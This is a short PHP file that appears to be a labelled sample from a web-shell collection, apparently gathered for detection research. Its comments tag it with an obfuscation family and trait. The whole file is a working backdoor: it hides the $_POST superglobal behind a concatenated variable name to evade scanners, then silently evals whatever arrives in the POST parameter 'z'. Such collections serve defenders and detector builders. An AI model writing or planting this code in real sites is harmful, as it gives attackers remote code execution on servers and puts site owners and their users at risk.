<?php
// Family: obfuscation/var-function
// Style: superglobal name built by concatenation
// Trait: ${"_PO"."ST"} to hide the superglobal, value evaluated
$k = ${"_PO" . "ST"};
if (isset($k['z'])) { @eval($k['z']); }
